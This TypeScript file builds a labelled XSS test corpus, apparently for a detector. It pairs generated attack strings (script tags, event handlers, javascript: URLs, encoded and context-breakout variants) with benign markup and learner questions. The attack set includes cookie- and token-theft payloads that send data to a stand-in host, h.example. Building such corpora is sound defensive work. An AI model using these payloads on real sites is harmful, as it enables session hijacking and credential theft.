import type { CategoryCorpus } from './corpus.ts'
import { carried, cross, dev, mixCase, some } from './corpus.ts'

const proofs = ['alert(1)', 'alert(document.domain)', 'prompt(1)', 'confirm`1`', 'alert(document.cookie)']

export const xssCorpus: CategoryCorpus = {
  category: 'xss',
  attacks: [
    dev(
      'script element',
      carried(
        some(
          20,
          cross(['<script>', '<ScRiPt>', '<script >', '"><script>', '<script\n>', '<script type=x>'], proofs, [
            '</script>',
            '</script >',
            '//',
          ]),
        ),
      ),
    ),
    dev(
      'image and svg handlers',
      carried(
        some(
          30,
          cross(
            ['<img src=x ', '<IMG SRC=1 ', '<svg ', '<body ', '<video src=q ', '<details open ', '<input autofocus '],
            ['onerror=', 'onload=', 'onfocus=', 'ontoggle=', 'onmouseover='],
            ['"', '', "'"],
            proofs,
            ['>', ' //'],
          ),
        ),
      ),
    ),
    dev(
      'script address',
      carried(
        some(
          16,
          cross(
            ['<a href="', '<iframe src="', '[click](', '<form action="'],
            ['javascript:', 'JaVaScRiPt:', ' javascript:'],
            proofs,
            ['">', ')'],
          ),
        ),
      ),
    ),
    dev(
      'cookie theft',
      carried([
        "<script>new Image().src='//h.example/?c='+document.cookie</script>",
        "fetch('https://h.example/?c='+document.cookie)",
        "location='http://h.example/?c='+document.cookie",
        'navigator.sendBeacon("https://h.example/?"+localStorage.getItem("t"))',
        '<script>fetch(`//h.example/${btoa(document.cookie)}`)</script>',
      ]),
    ),
    dev(
      'string breakout',
      carried(cross(["'", '"'], [';', '-', '+'], ['alert(1)', 'prompt(document.domain)'], ['//', ';//'])),
    ),
    dev('data and srcdoc', [
      'data:text/html,<script>alert(1)</script>',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      '<iframe srcdoc="<img src=x onerror=alert(1)>">',
      '<object data="data:text/html,<script>alert(1)</script>">',
      '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    ]),
    dev(
      'rare handlers',
      carried(
        some(
          24,
          cross(
            [
              '<marquee ',
              '<audio src=1 ',
              '<style>@keyframes x{}</style><b style="animation-name:x" ',
              '<select autofocus ',
              '<div ',
            ],
            ['onstart=', 'onerror=', 'onanimationstart=', 'onfocus=', 'onpointerenter='],
            ['alert(1)', 'eval(name)', 'import("//h.example/x.js")', 'top["al"+"ert"](1)'],
            ['>', '></div>'],
          ),
        ),
      ),
    ),
    dev(
      'slashes for blanks',
      carried(
        some(
          12,
          cross(
            ['<svg/', '<img/src/', '<details/open/', '<iframe/'],
            ['onload=', 'onerror=', 'ontoggle='],
            ['alert(1)', 'confirm(1)'],
            ['>', '//'],
          ),
        ),
      ),
    ),
    dev('encoded and obfuscated', [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '%3Cscript%3Ealert(1)%3C/script%3E',
      '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
      'setTimeout("ale"+"rt(1)") ; window["ale"+"rt"](1)',
      '[]["filter"]["constructor"]("alert(1)")()',
      '＜script＞alert(1)＜/script＞',
      mixCase('<script>alert(1)</script>'),
      '<img src=x onerror=&#97;lert(1)>',
      "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    ]),
    dev('other contexts', [
      '</title><svg onload=alert(1)>',
      '</textarea><script>alert(1)</script>',
      '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
      '{{x}}<img src=x onerror=alert`1`>',
      '<a href="java&#115;cript:alert(1)">x</a>',
      '<a href="javascript&colon;alert(1)">x</a>',
      '<base href="//h.example/">',
      '<link rel=stylesheet href="javascript:alert(1)">',
      '<embed src="javascript:alert(1)">',
      '<xss onclick="alert(1)">test</xss>',
      '<button formaction=javascript:alert(1)>go</button>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<svg><script>alert(1)</script></svg>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ]),
  ],
  benign: [
    dev(
      'everyday markup',
      some(
        24,
        cross(
          ['<div class="card">', '<section id="a">', '<p>'],
          [
            '<img src="cat.png" alt="A cat">',
            '<a href="https://h.example">link</a>',
            '<button onclick="save()">Save</button>',
            '<script src="/js/app.js" defer></script>',
            '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>',
            '<input onchange="update(this.value)">',
          ],
          ['</div>', '</p>', ''],
        ),
      ),
    ),
    dev('page scripts', [
      "<script>document.getElementById('a').textContent = 'hi'</script>",
      "<script>window.addEventListener('load', () => init())</script>",
      '<body onload="init()">',
      '<img src="a.png" onerror="this.src=\'b.png\'">',
      "<script>alert('Thank you for your order!')</script>",
      '<button onclick="alert(\'Saved successfully\')">',
      '<script type="module">import { x } from \'./x.js\'; x()</script>',
      '<a href="javascript:void(0)" onclick="toggle()">More</a>',
      "<script>fetch('/api/items').then(r => r.json())</script>",
      'document.cookie = `theme=${theme}; path=/`',
    ]),
    dev('code talk', [
      'How do I center a div with CSS?',
      'Use img.onload to wait for an image.',
      'The onerror handler gets five arguments.',
      'const alert = useAlert(); alert("ok")',
      'Call window.confirm before deleting.',
      'React escapes JSX text, so <b>{name}</b> is safe.',
      'addEventListener("error", onerror)',
      'print("alert") # python',
      'type Props = { onLoad: () => void }',
      'expect(alert).toHaveBeenCalledWith(1)',
      'What does `<script async>` do?',
      'a < b && c > d',
      'x = "<" + tag + ">"',
    ]),
    dev(
      'framework templates',
      some(
        20,
        cross(
          ['<template><', '<Foo><', 'return <'],
          [
            'img :src="user.avatar" @error="onImgError"',
            'button v-on:click="go"',
            'input bind:value={name} on:focus={show}',
            'video onPlay={() => setPlaying(true)}',
            'svg onLoad={ready}',
          ],
          [' />', '></div>', ' class="a" />'],
        ),
      ),
    ),
    dev('docs and logs', [
      'Uncaught TypeError: alert is not a function at app.js:12',
      'CSP blocked an inline script on /login',
      '<meta http-equiv="refresh" content="30">',
      '<iframe src="https://video.example/embed/1" allowfullscreen></iframe>',
      '<link rel="preload" href="/a.css" as="style" onload="this.rel=\'stylesheet\'">',
      '<img onerror="this.style.display=\'none\'" src="logo.png">',
      '<select onchange="location = this.value;">',
      '<form onsubmit="return confirm(\'Really delete this file?\')">',
      'data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cpath d=%22M0 0%22/%3E%3C/svg%3E',
      '<a href="javascript:history.back()">Back</a>',
      'localStorage.setItem("k", v); fetch("/api")',
      '<body onresize="layout()">',
      'prompt engineering: alert (1) the user, (2) the admin',
      'String.fromCharCode(65 + i)',
      'eval(expr) is slow in R',
    ]),
    dev('learner questions', [
      'Why does my onclick="myFunction()" not fire?',
      'Write a page with a button that shows alert("Hello, world!") when clicked.',
      'Here is my HTML: <button onclick="alert(\'Hello, visitor!\')">Hi</button>',
      'How can I read document.cookie in a test?',
      'Explain event bubbling with <div onclick="a()"><p onclick="b()">x</p></div>',
      'What is the difference between innerHTML and textContent?',
      '<script>console.log("debug")</script> prints nothing, why?',
      'How do I lazy-load <img loading="lazy" src="x.jpg">?',
    ]),
  ],
}
